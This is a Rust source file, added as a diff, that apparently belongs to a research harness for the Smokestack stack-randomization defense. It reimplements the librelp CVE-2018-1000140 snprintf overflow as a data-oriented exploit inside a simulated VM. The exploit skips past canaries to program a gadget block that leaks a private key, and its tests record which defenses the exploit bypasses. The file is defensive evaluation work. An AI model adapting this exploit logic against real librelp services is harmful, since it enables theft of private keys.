@@ -1,0 +1,361 @@
+//! The librelp case study (CVE-2018-1000140, paper §II-C and §V-C).
+//!
+//! `relpTcpChkPeerName()` accumulates X.509 subject-alt-names into a
+//! fixed buffer with `snprintf`, trusting its *return value* (the
+//! would-be length) to advance the write cursor. Once the cursor passes
+//! the buffer size, the remaining-capacity computation goes negative —
+//! as a `size_t`, enormous — and the next `snprintf` writes, unbounded,
+//! at `allNames + iAllNames`.
+//!
+//! The exploit is **non-linear**: a single oversized SAN advances the
+//! cursor far past the buffer *without writing* (the capped write is
+//! truncated inside the buffer while the return value reflects the full
+//! length), so the very next SAN lands bytes at an attacker-chosen
+//! distance — skipping canaries and the Smokestack guard slot entirely.
+//! The landed bytes program a DOP gadget block in the **caller**
+//! (`relp_lstn_init`): a dispatcher counter plus copy-gadget selectors
+//! that exfiltrate the private key through the error-reporting output.
+//!
+//! Defenses: every static scheme is derandomized by probing a prior run
+//! of the same build; Smokestack on the insecure `pseudo` scheme is
+//! derandomized by disclosing the PRNG state and predicting *both*
+//! frames' permutations; Smokestack on AES/RDRAND leaves the attacker a
+//! blind guess, which corrupts unintended slab bytes instead.
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use smokestack_core::HardenReport;
+use smokestack_defenses::DefenseKind;
+use smokestack_srng::SchemeKind;
+use smokestack_vm::{FnInput, Memory};
+
+use crate::intel::{probe, read_pseudo_state, scan_stack, PseudoOracle};
+use crate::{classify, Attack, AttackOutcome, Build};
+
+/// The secret the attack exfiltrates.
+pub const SECRET: &str = "SK-3141592653589793-SECRET";
+
+const TAG: i64 = 54324593208393710;
+
+/// The vulnerable service, scaled down from librelp (32 KB of SAN
+/// accumulation becomes 256 bytes; the mechanics are identical).
+pub const SOURCE: &str = r#"
+    char private_key[32] = "SK-3141592653589793-SECRET";
+    long dummy = 0;
+    long leaked = 0;
+
+    void relp_chk_peer_name(long tag) {
+        char allNames[256];
+        char szAltName[4096];
+        long iAllNames = 0;
+        long bFound = 0;
+        while (bFound == 0) {
+            long len = get_input(szAltName, 4095);
+            if (len == 0) {
+                bFound = 1;
+            } else {
+                szAltName[len] = 0;
+                /* CVE-2018-1000140: remaining capacity goes negative. */
+                iAllNames = iAllNames + snprintf_cat(
+                    allNames + iAllNames,
+                    256 - iAllNames,
+                    "DNSname: %s; ",
+                    szAltName);
+            }
+        }
+    }
+
+    void relp_lstn_init(long tag) {
+        char ctl[8];
+        long tbl[6];
+        char out[64];
+        long scratch = 0;
+        ctl[0] = 1;
+        ctl[1] = 0;
+        ctl[2] = 0;
+        ctl[3] = 0;
+        tbl[0] = &dummy;
+        tbl[1] = &private_key;
+        tbl[2] = &out;
+        tbl[3] = &leaked;
+        tbl[4] = 0;
+        tbl[5] = 0;
+        while (ctl[0] > 0) {
+            relp_chk_peer_name(tag + 1);
+            if (ctl[1] == 1) {
+                long *d = tbl[ctl[2]];
+                long *s = tbl[ctl[3]];
+                d[0] = s[0];
+                d[1] = s[1];
+                d[2] = s[2];
+                d[3] = s[3];
+            }
+            ctl[1] = 0;
+            ctl[0] = ctl[0] - 1;
+            scratch = scratch + 1;
+        }
+        print_str(out);
+    }
+
+    int main() { relp_lstn_init(54324593208393710); return 0; }
+"#;
+
+/// The librelp DOP attack.
+pub struct LibrelpAttack;
+
+/// Locate the per-invocation addresses of the callee's `allNames` and
+/// the caller's `ctl` block. Returns `(allNames, ctl)` or None if the
+/// needed knowledge is unavailable/unusable.
+struct FrameKnowledge {
+    all_names: u64,
+    ctl: u64,
+    /// Harmful intervals the write must not touch: `[start, end)`.
+    forbidden: Vec<(u64, u64)>,
+}
+
+fn oracle_map(report: &HardenReport, func: &str, draw: u64) -> Vec<(String, i64)> {
+    let oracle = PseudoOracle::new(report);
+    let offs = oracle.offsets_for_draw(func, draw);
+    report.placements[func]
+        .slot_names
+        .iter()
+        .cloned()
+        .zip(offs.iter().map(|&o| o as i64))
+        .collect()
+}
+
+fn get(map: &[(String, i64)], name: &str) -> Option<i64> {
+    map.iter().find(|(n, _)| n == name).map(|(_, d)| *d)
+}
+
+impl LibrelpAttack {
+    fn knowledge(
+        build: &Build,
+        run_seed: u64,
+        mem: &Memory,
+    ) -> Option<FrameKnowledge> {
+        // Live anchors for both frames.
+        let caller_anchor = scan_stack(mem, TAG as u64, 2 << 20)?;
+        let callee_anchor = scan_stack(mem, (TAG + 1) as u64, 2 << 20)?;
+        match &build.deployment.smokestack {
+            Some(report) => {
+                let is_pseudo =
+                    build.defense == DefenseKind::Smokestack(SchemeKind::Pseudo);
+                let (callee_draw, caller_draw) = if is_pseudo {
+                    // Draw order at first input: main, caller, callee.
+                    let state = read_pseudo_state(mem);
+                    (
+                        PseudoOracle::draw_back(state, 0),
+                        PseudoOracle::draw_back(state, 1),
+                    )
+                } else {
+                    let mut rng = StdRng::seed_from_u64(run_seed ^ 0x11b);
+                    (rng.gen(), rng.gen())
+                };
+                let callee = oracle_map(report, "relp_chk_peer_name", callee_draw);
+                let caller = oracle_map(report, "relp_lstn_init", caller_draw);
+                let callee_slab = callee_anchor as i64 - get(&callee, "tag")?;
+                let caller_slab = caller_anchor as i64 - get(&caller, "tag")?;
+                let all_names = (callee_slab + get(&callee, "allNames")?) as u64;
+                let ctl = (caller_slab + get(&caller, "ctl")?) as u64;
+                let tbl = (caller_slab + get(&caller, "tbl")?) as u64;
+                let out = (caller_slab + get(&caller, "out")?) as u64;
+                Some(FrameKnowledge {
+                    all_names,
+                    ctl,
+                    forbidden: vec![(tbl + 8, tbl + 24), (out, out + 33)],
+                })
+            }
+            None => {
+                // Static layout: probe a prior run of the same build.
+                let intel = probe(build, run_seed ^ 0x5151, vec![vec![]]);
+                let callee_tag = intel.addr_of("relp_chk_peer_name", "tag")?;
+                let caller_tag = intel.addr_of("relp_lstn_init", "tag")?;
+                let d_all =
+                    intel.addr_of("relp_chk_peer_name", "allNames")? as i64 - callee_tag as i64;
+                let d_ctl = intel.addr_of("relp_lstn_init", "ctl")? as i64 - caller_tag as i64;
+                let d_tbl = intel.addr_of("relp_lstn_init", "tbl")? as i64 - caller_tag as i64;
+                let d_out = intel.addr_of("relp_lstn_init", "out")? as i64 - caller_tag as i64;
+                let all_names = (callee_anchor as i64 + d_all) as u64;
+                let ctl = (caller_anchor as i64 + d_ctl) as u64;
+                let tbl = (caller_anchor as i64 + d_tbl) as u64;
+                let out = (caller_anchor as i64 + d_out) as u64;
+                Some(FrameKnowledge {
+                    all_names,
+                    ctl,
+                    forbidden: vec![(tbl + 8, tbl + 24), (out, out + 33)],
+                })
+            }
+        }
+    }
+}
+
+impl Attack for LibrelpAttack {
+    fn name(&self) -> &str {
+        "librelp-cve-2018-1000140"
+    }
+
+    fn source(&self) -> &str {
+        SOURCE
+    }
+
+    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
+        use std::cell::RefCell;
+        use std::rc::Rc;
+
+        let defense = build.defense;
+        let smokestack = build.deployment.smokestack.clone();
+        let build_clone = Build {
+            module: build.module.clone(),
+            defense,
+            deployment: build.deployment.clone(),
+            build_seed: build.build_seed,
+        };
+        let _ = &smokestack;
+
+        let aborted = Rc::new(RefCell::new(false));
+        let committed = Rc::new(RefCell::new(false));
+        let aborted_c = aborted.clone();
+        let committed_c = committed.clone();
+
+        let mut vm = build.vm(run_seed);
+        let adversary = FnInput(move |mem: &mut Memory, req, _max| {
+            if *aborted_c.borrow() {
+                return vec![];
+            }
+            match req {
+                0 => {
+                    // First SAN: decide, then jump the cursor.
+                    let Some(k) = LibrelpAttack::knowledge(&build_clone, run_seed, mem) else {
+                        *aborted_c.borrow_mut() = true;
+                        return vec![];
+                    };
+                    // The targeted write spans [ctl-9, ctl+7): prefix
+                    // below ctl, 4 payload bytes, "; \0" inside ctl.
+                    let write_lo = k.ctl - 9;
+                    let write_hi = k.ctl + 7;
+                    let harmful = k
+                        .forbidden
+                        .iter()
+                        .any(|&(lo, hi)| write_lo < hi && lo < write_hi);
+                    let dist = k.ctl as i64 - 9 - k.all_names as i64;
+                    // One capped jump: increment = 11 + len, len <= 4095.
+                    let len = dist - 11;
+                    if harmful || !(1..=4095).contains(&len) {
+                        *aborted_c.borrow_mut() = true;
+                        return vec![];
+                    }
+                    // Oversized SAN: truncated inside allNames, but the
+                    // returned would-be length teleports the cursor.
+                    vec![b'A'; len as usize]
+                }
+                1 => {
+                    // Second SAN lands at ctl: [nsock=2][op=1][dst=2][src=1].
+                    *committed_c.borrow_mut() = true;
+                    vec![2, 1, 2, 1]
+                }
+                _ => vec![], // end SAN list; later sessions benign
+            }
+        });
+        let out = vm.run_main(adversary);
+        let goal = out.output_text().contains(SECRET);
+        if *aborted.borrow() && !goal {
+            return AttackOutcome::Aborted;
+        }
+        let outcome = classify(&out, goal, "private key exfiltrated via error output");
+        if !*committed.borrow() && !outcome.is_success() {
+            return AttackOutcome::Aborted;
+        }
+        outcome
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evaluate_seeded;
+
+    #[test]
+    fn benign_run_leaks_nothing() {
+        let build = Build::new(SOURCE, DefenseKind::None, 1);
+        let mut vm = build.vm(7);
+        let out = vm.run_main(smokestack_vm::ScriptedInput::new(vec![vec![]]));
+        assert!(!out.output_text().contains(SECRET));
+        assert!(out.exit.is_clean());
+    }
+
+    #[test]
+    fn bypasses_unprotected() {
+        let eval = evaluate_seeded(&LibrelpAttack, DefenseKind::None, 2, 10);
+        assert_eq!(eval.successes, 2, "{eval}");
+    }
+
+    #[test]
+    fn bypasses_stack_base_randomization() {
+        let eval = evaluate_seeded(&LibrelpAttack, DefenseKind::StackBase, 2, 20);
+        assert_eq!(eval.successes, 2, "{eval}");
+    }
+
+    #[test]
+    fn bypasses_entry_padding() {
+        let eval = evaluate_seeded(&LibrelpAttack, DefenseKind::EntryPadding, 2, 30);
+        assert_eq!(eval.successes, 2, "{eval}");
+    }
+
+    #[test]
+    fn static_permutation_bypassed_on_vulnerable_builds() {
+        // The jump distance is bounded by the SAN buffer size, so a
+        // static permutation is a per-build coin flip: builds where
+        // allNames landed above szAltName are fully exploitable, and the
+        // attacker knows which from a single disclosure probe.
+        let mut bypassed = 0;
+        for base_seed in 0..8u64 {
+            let eval =
+                evaluate_seeded(&LibrelpAttack, DefenseKind::StaticPermutation, 1, 40 + base_seed);
+            if eval.successes > 0 {
+                bypassed += 1;
+            }
+        }
+        assert!(bypassed >= 1, "no vulnerable static-permutation build in 8");
+    }
+
+    #[test]
+    fn bypasses_stack_canary() {
+        // Non-linear: the cursor hops over the canary slot.
+        let eval = evaluate_seeded(&LibrelpAttack, DefenseKind::Canary, 2, 50);
+        assert_eq!(eval.successes, 2, "{eval}");
+    }
+
+    #[test]
+    fn stopped_by_smokestack_aes10() {
+        let eval = evaluate_seeded(
+            &LibrelpAttack,
+            DefenseKind::Smokestack(SchemeKind::Aes10),
+            6,
+            60,
+        );
+        assert!(eval.stopped(), "{eval}");
+    }
+
+    #[test]
+    fn stopped_by_smokestack_rdrand() {
+        let eval = evaluate_seeded(
+            &LibrelpAttack,
+            DefenseKind::Smokestack(SchemeKind::Rdrand),
+            4,
+            70,
+        );
+        assert!(eval.stopped(), "{eval}");
+    }
+
+    #[test]
+    fn bypasses_smokestack_pseudo() {
+        let eval = evaluate_seeded(
+            &LibrelpAttack,
+            DefenseKind::Smokestack(SchemeKind::Pseudo),
+            2,
+            80,
+        );
+        assert_eq!(eval.successes, 2, "{eval}");
+    }
+}
